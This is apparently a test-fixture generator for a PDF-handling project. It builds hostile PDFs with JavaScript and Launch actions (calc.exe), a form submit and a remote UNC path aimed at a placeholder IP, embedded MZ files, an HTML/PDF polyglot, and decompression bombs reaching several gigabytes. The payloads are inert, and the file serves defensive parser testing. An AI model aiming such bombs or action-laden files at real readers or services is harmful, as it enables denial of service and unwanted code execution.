"""PDFs by hand: only their structure is hostile, what they would run is an empty word."""

import io
import zlib
from random import Random

import pikepdf

from tests.hostile.makers.registry import made, plain

TEXT = b"BT /F1 12 Tf 20 200 Td (Evaluation report of an invented works) Tj ET"
SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = "<< /S /Launch /F (calc.exe) >>"
REMOTE = "<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\share\\\\x.pdf) /D [0 /Fit] >>"
SUBMIT = "<< /S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/) >> >>"
LINK = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A {} >>]"
EMBEDDED = "<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>"


def stream(body: bytes, more: str = "") -> bytes:
    """A stream object."""
    return f"<< /Length {len(body)} {more} >>\nstream\n".encode() + body + b"\nendstream"


def written(objects: list[bytes], head: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    body, at = bytearray(head), []
    for number, content in enumerate(objects, start=1):
        at.append(len(body))
        body += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    begun = len(body)
    body += f"xref\n0 {len(at) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{place:010d} 00000 n \n".encode() for place in at)
    return bytes(body) + f"trailer\n<< /Size {len(at) + 1} /Root 1 0 R >>\nstartxref\n{begun}\n%%EOF\n".encode()


def pdf(*, catalogue: str = "", page: str = "", content: bytes | None = None, more: tuple[bytes, ...] = ()) -> bytes:
    """One page of text; `catalogue` and `page` say what else they hold, `more` are the objects from number 6 on."""
    return written([
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> {page} >>".encode(),
        content or stream(TEXT),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
    ])  # fmt: skip


def deflated(size: int, times: int = 1, lead: bytes = b"") -> bytes:
    """`lead` and so many zeros, packed `times` over: one packed megabyte again and again, so that making it costs nothing."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    begun = packer.compress(lead) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(bytes(size % (1 << 20))) + packer.flush()
    body = b"\x78\xda" + begun + block * (size >> 20) + rest + _sum(lead, size).to_bytes(4, "big")
    for _ in range(times - 1):
        body = zlib.compress(body, 9)
    return body


def _sum(lead: bytes, zeros: int) -> int:
    """Adler-32 of `lead` and so many zeros."""
    told = zlib.adler32(lead)
    low, high = told & 0xFFFF, told >> 16
    return (high + low * zeros) % 65521 << 16 | low


def kids(pages: int) -> bytes:
    """Many pages that are all the same empty one but for their number."""
    refs = b" ".join(b"%d 0 R" % n for n in range(3, 3 + pages))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count %d /Kids [%b] >>" % (pages, refs), *[page] * pages])


def saved(document: pikepdf.Pdf, **more: object) -> bytes:
    """The bytes of a document, the same each time."""
    target = io.BytesIO()
    document.save(target, **({"deterministic_id": True} | more))
    return target.getvalue()


plain("js_on_opening.pdf", pdf(catalogue=f"/OpenAction {SCRIPT}"))
plain("js_in_names.pdf", pdf(catalogue=f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"))
plain("js_in_name_tree.pdf", pdf(catalogue=f"/Names << /JavaScript << /Kids [<< /Names [(a) {SCRIPT}] >>] >> >>"))
plain("js_on_page.pdf", pdf(page=f"/AA << /O {SCRIPT} >>"))
plain("js_behind_link.pdf", pdf(page=LINK.format(SCRIPT)))
plain("js_after_goto.pdf", pdf(catalogue=f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{SCRIPT}] >>"))
plain("js_in_bookmark.pdf", pdf(
    catalogue="/Outlines 6 0 R", more=(b"<< /First 7 0 R /Last 7 0 R /Count 1 >>", f"<< /Title (a) /Parent 6 0 R /A {SCRIPT} >>".encode())))  # fmt: skip
plain("js_in_field.pdf", pdf(catalogue=f"/AcroForm << /Fields [<< /FT /Tx /T (a) /Kids [<< /T (b) /AA << /K {SCRIPT} >> >>] >>] >>"))
plain("js_when_closing.pdf", pdf(catalogue=f"/AA << /WC {SCRIPT} >>"))
plain("js_address.pdf", pdf(page=LINK.format("<< /S /URI /URI (javascript:alert\\(1\\)) >>")))
plain("launch_on_opening.pdf", pdf(catalogue=f"/OpenAction {LAUNCH}"))
plain("launch_behind_link.pdf", pdf(page=LINK.format(LAUNCH)))
plain("form_sent_away.pdf", pdf(page=LINK.format(SUBMIT)))
plain("other_file_on_opening.pdf", pdf(catalogue=f"/OpenAction {REMOTE}"))
plain("file_inside.pdf", pdf(catalogue=f"/Names << /EmbeddedFiles << /Names [(x) {EMBEDDED}] >> >>", more=(stream(b"MZ"),)))
plain(
    "file_on_page.pdf",
    pdf(page=f"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS {EMBEDDED} >>]", more=(stream(b"MZ"),)),
)
plain("file_beside.pdf", pdf(catalogue=f"/AF [{EMBEDDED}]", more=(stream(b"MZ"),)))
plain("xfa.pdf", pdf(catalogue="/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>", more=(stream(b"<xdp/>"),)))
plain("film.pdf", pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"))
plain("film_on_page.pdf", pdf(page="/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /JS (1) >> >>]"))
plain("only_a_head.pdf", b"%PDF-1.7\n")
plain("program.pdf", b"MZ\x90\x00" + bytes(512))
plain("cut_off.pdf", pdf(content=stream(TEXT + b" " * 4000))[:700])
plain("loop_of_pages.pdf", written([
    b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>", b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 9 >>"]))  # fmt: skip
plain("two_milliard_pages.pdf", pdf().replace(b"/Count 1 ", b"/Count 2000000000 "))
plain(
    "loop_of_tables.pdf",
    pdf().replace(b"/Root 1 0 R", b"/Prev 9 /Root 1 0 R").replace(b"%\xe2\xe3\xcf\xd3", b"xref\n0 0\ntrailer << /Prev 9 >>\n"),
)
plain("deep.pdf", pdf(catalogue="/X " + "[" * 200_000 + "]" * 200_000))
plain("page_of_miles.pdf", pdf().replace(b"[0 0 595 842]", b"[0 0 9999999999 9999999999]"))
plain("also_a_page_for_browsers.pdf", b"<html><script>alert(1)</script>\n" + pdf())


@made("locked.pdf")
def _locked(dice: Random) -> bytes:
    return saved(pikepdf.open(io.BytesIO(pdf())), deterministic_id=False, encryption=pikepdf.Encryption(user="a", owner="b", R=4))


@made("locked_aes.pdf")
def _locked_aes(dice: Random) -> bytes:
    return saved(pikepdf.open(io.BytesIO(pdf())), deterministic_id=False, encryption=pikepdf.Encryption(user="a", owner="b", R=6))


@made("js_in_object_stream.pdf")
def _hidden(dice: Random) -> bytes:
    document = pikepdf.open(io.BytesIO(pdf(page=LINK.format(SCRIPT))))
    document.pages[0].Annots = document.make_indirect(document.pages[0].Annots)
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@made("bomb_in_page.pdf")
def _flate_bomb(dice: Random) -> bytes:
    return pdf(content=stream(deflated(4 << 30), "/Filter /FlateDecode"))


@made("bomb_packed_twice.pdf")
def _nested_bomb(dice: Random) -> bytes:
    return pdf(content=stream(deflated(8 << 30, 2), "/Filter [/FlateDecode /FlateDecode]"))


@made("bomb_of_objects.pdf")
def _object_stream_bomb(dice: Random) -> bytes:
    """The page stands in an object stream that unpacks to four gigabytes; its place is told by a cross-reference stream."""
    head = b"3 0 2 57 "
    objects = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>      << /Type /Pages /Kids [3 0 R] /Count 1 >> "
    packed = stream(deflated(4 << 30, lead=head + objects), f"/Type /ObjStm /N 2 /First {len(head)} /Filter /FlateDecode")
    body, at = bytearray(b"%PDF-1.7\n"), {}
    for number, content in ((1, b"<< /Type /Catalog /Pages 2 0 R >>"), (4, packed)):
        at[number] = len(body)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    rows = [(0, 0, 65535), (1, at[1], 0), (2, 4, 1), (2, 4, 0), (1, at[4], 0), (1, len(body), 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + more.to_bytes(2, "big") for kind, place, more in rows)
    begun = len(body)
    body += b"5 0 obj\n" + stream(table, "/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    return bytes(body) + b"startxref\n%d\n%%%%EOF\n" % begun


@made("bomb_of_forms.pdf")
def _laughing_forms(dice: Random) -> bytes:
    """Each form draws the next ten times, ten deep."""
    levels = 12
    forms = [
        stream(b"/X Do " * 10 if at < levels - 1 else TEXT, "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F1 5 0 R >> "
               + (f"/XObject << /X {7 + at} 0 R >>" if at < levels - 1 else "") + " >>")
        for at in range(levels)
    ]  # fmt: skip
    return pdf(content=stream(b"/X Do"), more=tuple(forms)).replace(
        b"<< /F1 5 0 R >> >> ", b"<< /F1 5 0 R >> /XObject << /X 6 0 R >> >> ", 1
    )


@made("bomb_of_a_picture.pdf")
def _picture_bomb(dice: Random) -> bytes:
    size = 30_000
    picture = stream(
        deflated(size * size),
        f"/Type /XObject /Subtype /Image /Width {size} /Height {size} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
    )
    body = pdf(content=stream(b"500 0 0 500 0 0 cm /X Do"), more=(picture,))
    return body.replace(b"<< /F1 5 0 R >> >> ", b"<< /F1 5 0 R >> /XObject << /X 6 0 R >> >> ", 1)


@made("hundred_thousand_pages.pdf")
def _many_pages(dice: Random) -> bytes:
    return kids(100_000)


@made("deep_tree_of_pages.pdf")
def _deep_tree(dice: Random) -> bytes:
    deep = 20_000
    middle = [b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1) for n in range(3, 3 + deep)]
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 9 9] >>" % (2 + deep)
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", *middle, page])


@made("loop_of_actions.pdf")
def _loop_of_actions(dice: Random) -> bytes:
    return pdf(catalogue="/OpenAction 6 0 R", more=(b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",))


@made("million_links.pdf")
def _many_links(dice: Random) -> bytes:
    return pdf(page="/Annots [" + "6 0 R " * 1_000_000 + "]", more=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>",))
